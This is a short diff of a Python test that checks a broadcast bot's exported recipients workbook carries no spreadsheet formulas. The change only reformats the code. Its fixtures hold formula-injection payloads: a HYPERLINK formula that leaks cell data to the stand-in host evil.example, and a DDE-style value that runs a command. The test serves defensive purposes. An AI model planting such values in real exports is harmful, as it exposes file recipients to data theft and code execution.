@@ -186,8 +186,13 @@ def test_the_recipients_workbook_carries_no_formula() -> None:
     leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
     person = Participant(telegram_id=1, full_name=leak, role=Role.DIRECTOR, locale="ru")
     lines = [
-        broadcasts.RecipientLine(person, "+Киришский", "@SUM(1+1)*cmd|' /C calc'!A0",
-                                 "sent", datetime(2026, 10, 5, 7, tzinfo=UTC))  # fmt: skip
+        broadcasts.RecipientLine(
+            person,
+            "+Киришский",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "sent",
+            datetime(2026, 10, 5, 7, tzinfo=UTC),
+        )
     ]
     texts = xlsx_texts(broadcasts.recipients_workbook(lines, MOSCOW))
     assert texts[:6] == ["ФИО", "Роль", "Муниципалитет", "Школа", "Доставка", "Ознакомлен"]
